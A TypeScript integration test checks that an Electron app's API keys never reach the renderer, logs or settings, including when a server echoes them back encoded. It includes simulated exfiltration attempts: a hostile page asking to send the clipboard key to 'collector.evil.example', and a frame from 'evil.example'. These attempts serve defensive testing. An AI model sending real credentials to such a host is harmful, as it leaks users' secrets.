import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { IPC, type ProfileMeta } from '../../shared';
import { ApiClient, type ApiClientOptions } from '../../electron/client';
import { createCore, isAppUrl, type Core } from '../../electron/core';
import { BridgeIpc, type IpcEventLike, type IpcMainLike } from '../../electron/main/ipc';
import { startSandbox, type RunningSandbox } from '../../electron/sandbox';
import { FixedDemoHost, MemoryHost, MemoryLogger, MemoryStore, MemoryVault } from '../harness/memory-host';
import { business, customer } from '../unit/contract/samples';

/**
 * Key confinement through the real transport: the preload's window.bridge, ipcRenderer and
 * ipcMain (structured clone both ways, as Electron does), the BridgeIpc class and the core.
 * Keys of several shapes go to the sandbox, to a server that echoes them back altered (in any
 * case, base64, base64url, in codes, request ids, records), and to a port where nothing listens.
 * A hostile page also asks for the clipboard to be sent to a foreign host.
 */

const PAGE = 'app://bizops/index.html#/profiles';
type Listener = (event: IpcEventLike, ...args: unknown[]) => unknown;
const main = { handlers: new Map<string, Listener>(), listeners: new Map<string, Listener>() };
const rendererListeners = new Map<string, ((event: unknown, ...args: unknown[]) => void)[]>();
const exposed = new Map<string, unknown>();
const frame = { url: PAGE };

vi.mock('electron', () => ({
  contextBridge: { exposeInMainWorld: (name: string, api: unknown) => exposed.set(name, api) },
  ipcRenderer: {
    invoke: async (channel: string, payload: unknown) => {
      const handler = main.handlers.get(channel);
      if (!handler) throw new Error(`no handler for ${channel}`);
      return structuredClone(await handler({ senderFrame: { url: frame.url } }, structuredClone(payload)));
    },
    send: (channel: string, ...args: unknown[]) => void main.listeners.get(channel)?.({ senderFrame: { url: frame.url } }, ...structuredClone(args)),
    on: (channel: string, fn: (event: unknown, ...a: unknown[]) => void) => void rendererListeners.set(channel, [...(rendererListeners.get(channel) ?? []), fn]),
    removeListener: (channel: string, fn: (event: unknown, ...a: unknown[]) => void) => void rendererListeners.set(channel, (rendererListeners.get(channel) ?? []).filter((f) => f !== fn)),
  },
}));

interface Bridge {
  invoke(op: string, input: unknown): Promise<{ ok: boolean; data?: unknown; error?: { kind: string; code?: string; status?: number; message: string } }>;
  on(event: string, cb: (payload: unknown) => void): () => void;
}

const b64 = (s: string) => Buffer.from(s).toString('base64');
const b64url = (s: string) => Buffer.from(s).toString('base64url');

/** A server that reflects the Authorization header back, altered, in every place an answer has. */
function startEchoServer(): Promise<Server> {
  const server = createServer((req, res) => {
    const key = (req.headers.authorization ?? '').replace(/^Bearer /, '');
    const send = (status: number, body: unknown, headers: Record<string, string> = {}) => {
      res.writeHead(status, { 'content-type': 'application/json', 'x-request-id': key, ...headers });
      res.end(JSON.stringify(body));
    };
    const path = (req.url ?? '').split('?')[0];
    if (path === '/v1/business') {
      send(401, { error: { type: `t_${key}`, code: key, message: `Key ${key.toUpperCase()} (${b64(`api:${key}`)}, ${b64url(`>${key}?`)}) is not valid; you sent Authorization: Bearer ${key.toLowerCase()}` }, request_id: key });
    } else if (path === '/v1/customers') {
      send(200, { data: [{ ...customer, name: key, email: null, notes_hint: b64(key) }], page: { has_more: false, next_cursor: null }, request_id: b64(key) });
    } else if (path === '/v1/tags') {
      send(500, `<html>upstream said: authorization=Bearer ${key}</html>`, { 'content-type': 'text/html' });
    } else {
      send(200, { data: { ...business, name: `Echo of ${key}` }, request_id: `req_${key}` });
    }
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

let sandbox: RunningSandbox;
let echo: Server;
let echoUrl: string;
let deadUrl: string;
let core: Core;
let host: MemoryHost;
let store: MemoryStore;
let vault: MemoryVault;
let log: MemoryLogger;
let bridge: Bridge;
const fetched: string[] = [];
const replies: unknown[] = [];
const events: unknown[] = [];

async function call<T = unknown>(op: string, input: unknown): Promise<{ ok: boolean; data?: T; error?: { kind: string; code?: string; status?: number; message: string } }> {
  const r = await bridge.invoke(op, input);
  replies.push(r);
  return r as { ok: boolean; data?: T; error?: { kind: string; code?: string; status?: number; message: string } };
}

beforeAll(async () => {
  sandbox = await startSandbox({ host: '127.0.0.1', port: 0, rateLimit: 0 });
  echo = await startEchoServer();
  echoUrl = `http://127.0.0.1:${(echo.address() as AddressInfo).port}/v1`;
  // A port that was free a moment ago: nothing answers there.
  const probe = await startEchoServer();
  deadUrl = `http://127.0.0.1:${(probe.address() as AddressInfo).port}/v1`;
  await new Promise((r) => probe.close(r));

  host = new MemoryHost();
  store = new MemoryStore();
  vault = new MemoryVault('os');
  log = new MemoryLogger();
  const recordingFetch: typeof fetch = (input, init) => {
    fetched.push(String(input instanceof Request ? input.url : input));
    return fetch(input, init);
  };
  // The real client, without retries: their waits would only slow this audit down.
  const clientFactory = (o: ApiClientOptions) => new ApiClient({ ...o, retry: { maxRetries: 0 } });
  core = createCore({ vault, store, host, log, fetch: recordingFetch, clientFactory, demo: new FixedDemoHost(sandbox.baseUrl, sandbox.keys.owner) });
  const ipc: IpcMainLike = {
    handle: (c, fn) => void main.handlers.set(c, fn),
    on: (c, fn) => void main.listeners.set(c, fn),
    removeHandler: (c) => void main.handlers.delete(c),
    removeAllListeners: (c) => void main.listeners.delete(c),
  };
  new BridgeIpc(ipc, core.router, isAppUrl).register();
  // Main forwards core events to the page as electron/main/index.ts does.
  core.events.on((event, payload) => {
    for (const fn of rendererListeners.get(IPC.event) ?? []) fn({ sender: {} }, event, structuredClone(payload));
  });
  await import('../../electron/preload/index');
  bridge = exposed.get('bridge') as Bridge;
  bridge.on('profiles.changed', (p) => events.push(p));
});

afterAll(async () => {
  await core.shutdown();
  await sandbox.close();
  await new Promise((r) => echo.close(r));
  host.dispose();
});

describe('the key never reaches the renderer, through the preload and IPC', () => {
  it('keys of several shapes, echoed back altered, failing networks and a hostile clipboard request leave no trace', async () => {
    const k = sandbox.keys;
    const opaque = 'sk-Proj_Zq8.x~Lm+Vd/9Kp=Tr4Wn7Yb2Hc5';
    const all: [string, string][] = [['owner', k.owner], ['live', k.live], ['readonly', k.readonly], ['echoed', k.other_business], ['opaque', opaque], ['dead', k.limited]];

    // 1. A hostile page asks for the clipboard to go to a foreign host: the user is asked, says no, nothing is read or sent.
    host.clipboard = k.owner;
    const read = vi.spyOn(host, 'readClipboardText');
    host.answerKeyUse = (q) => q.host !== 'collector.evil.example';
    const hostile = await call('profiles.add', { name: 'Backup', environment: 'test', base_url: 'https://collector.evil.example/v1', key: { source: 'clipboard' }, session_only: true });
    expect(hostile.error).toMatchObject({ kind: 'cancelled', code: 'clipboard_declined' });
    expect(host.keyQuestions.at(-1)).toMatchObject({ host: 'collector.evil.example', purpose: 'add' });
    expect(read).not.toHaveBeenCalled();
    expect(host.clipboard).toBe(k.owner);
    // The same request for a cleartext foreign address never even gets to the question.
    const cleartext = await call('profiles.add', { name: 'Backup', environment: 'test', base_url: 'http://collector.evil.example/v1', key: { source: 'clipboard' }, session_only: true });
    expect(cleartext.error?.kind).toBe('invalid_input');
    expect(host.keyQuestions).toHaveLength(1);

    // 2. The owner key from the clipboard, confirmed for the sandbox: read once, then the clipboard is emptied.
    const owner = await call<ProfileMeta>('profiles.add', { name: 'Owner', environment: 'test', base_url: sandbox.baseUrl, key: { source: 'clipboard' }, session_only: false });
    expect(owner.ok).toBe(true);
    expect(host.keyQuestions.at(-1)).toMatchObject({ host: new URL(sandbox.baseUrl).host, profileName: 'Owner', purpose: 'add' });
    expect(read).toHaveBeenCalledTimes(2); // the read, and the check before emptying
    expect(host.clipboard).toBe('');
    await call('profiles.activate', { id: owner.data!.id });
    expect((await call<{ readable: string[] }>('profiles.test', { id: owner.data!.id })).ok).toBe(true);
    expect((await call('api.call', { route: 'customers.list', query: { limit: 2 } })).ok).toBe(true);

    // 3. A live key (another shape) against a test environment: 401 from the sandbox.
    const live = await call<ProfileMeta>('profiles.add', { name: 'Live', environment: 'live', base_url: sandbox.baseUrl, key: { source: 'typed', key: k.live }, session_only: true });
    expect((await call('profiles.test', { id: live.data!.id })).error).toMatchObject({ kind: 'api', status: 401 });

    // 4. A server that echoes the key back altered, with a bo_ key and with a key of another shape.
    for (const [name, key] of [['Echo', k.other_business], ['Opaque', opaque]] as const) {
      const p = await call<ProfileMeta>('profiles.add', { name, environment: 'test', base_url: echoUrl, key: { source: 'typed', key }, session_only: true });
      expect(p.ok, name).toBe(true);
      await call('profiles.activate', { id: p.data!.id });
      const refused = await call('api.call', { route: 'business.get' });
      expect(refused.error).toMatchObject({ kind: 'api', status: 401 });
      expect(refused.error).not.toHaveProperty('code');
      expect(refused.error?.message).toContain('[redacted]');
      const listed = await call<{ data: { name: string }[]; request_id: string }>('api.call', { route: 'customers.list' });
      expect(listed.data?.data[0]?.name).toBe('[redacted]');
      expect((await call('api.call', { route: 'tags.list' })).error?.kind).toBe('invalid_response');
      expect((await call('api.call', { route: 'suppliers.list' })).ok).toBe(false);
    }

    // 5. A network failure: nothing listens at the base URL.
    const dead = await call<ProfileMeta>('profiles.add', { name: 'Dead', environment: 'test', base_url: deadUrl, key: { source: 'typed', key: k.limited }, session_only: true });
    await call('profiles.activate', { id: dead.data!.id });
    expect((await call('api.call', { route: 'business.get' })).error?.kind).toBe('network');

    // 6. A readonly key typed, a replacement and removals.
    const ro = await call<ProfileMeta>('profiles.add', { name: 'Readonly', environment: 'test', base_url: sandbox.baseUrl, key: { source: 'typed', key: k.readonly }, session_only: true });
    await call('profiles.activate', { id: ro.data!.id });
    expect((await call('api.call', { route: 'tags.create', body: { name: 'x', color_hex: '#112233' } })).error).toMatchObject({ status: 403 });
    host.clipboard = k.rotated_old;
    expect((await call('profiles.replaceKey', { id: owner.data!.id, key: { source: 'clipboard' } })).ok).toBe(true);
    expect(host.clipboard).toBe('');
    await call('profiles.remove', { id: live.data!.id });
    await call('profiles.list', {});

    // The audit: everything the page received or could read, every log line, the stored settings.
    const places = [['bridge replies', JSON.stringify(replies)], ['events', JSON.stringify(events)], ['logs', log.text()], ['settings store', store.dump()]] as const;
    for (const [where, text] of places) {
      for (const [name, key] of [...all, ['rotated', k.rotated_old] as [string, string]]) {
        const secret = key.slice(key.lastIndexOf('_') + 1);
        for (const form of [key, key.toUpperCase(), key.toLowerCase(), secret]) expect(text.includes(form), `${name} key (${form.slice(0, 6)}…) in ${where}`).toBe(false);
        // Base64 and base64url at each byte alignment (the middle, which only the key decides).
        for (let offset = 0; offset < 3; offset++) {
          const padded = `${'#'.repeat(offset)}${key}`;
          for (const enc of [b64(padded), b64url(padded)]) expect(text.includes(enc.slice(4, -4)), `${name} key in base64 in ${where}`).toBe(false);
        }
      }
      expect(/bearer/i.test(text), `"Bearer" in ${where}`).toBe(false);
    }
    // Not vacuous: the calls happened, failed where they should, and reached each server.
    expect(replies.length).toBeGreaterThan(25);
    expect(log.lines.filter((l) => l.msg === 'bridge call failed').length).toBeGreaterThan(8);
    expect(fetched.some((u) => u.startsWith(echoUrl))).toBe(true);
    expect(fetched.some((u) => u.startsWith(deadUrl))).toBe(true);
    expect(fetched.some((u) => u.includes('collector.evil.example'))).toBe(false);
    // Removed and replaced keys are gone from main's memory too.
    expect([...core.profiles.knownSecrets()]).not.toContain(k.live);
    expect([...core.profiles.knownSecrets()]).not.toContain(k.owner);
  });

  it('a frame that is not the app page gets nothing through the same transport', async () => {
    frame.url = 'https://evil.example/';
    try {
      expect(await bridge.invoke('profiles.list', {})).toMatchObject({ ok: false, error: { kind: 'forbidden_sender' } });
    } finally {
      frame.url = PAGE;
    }
  });
});
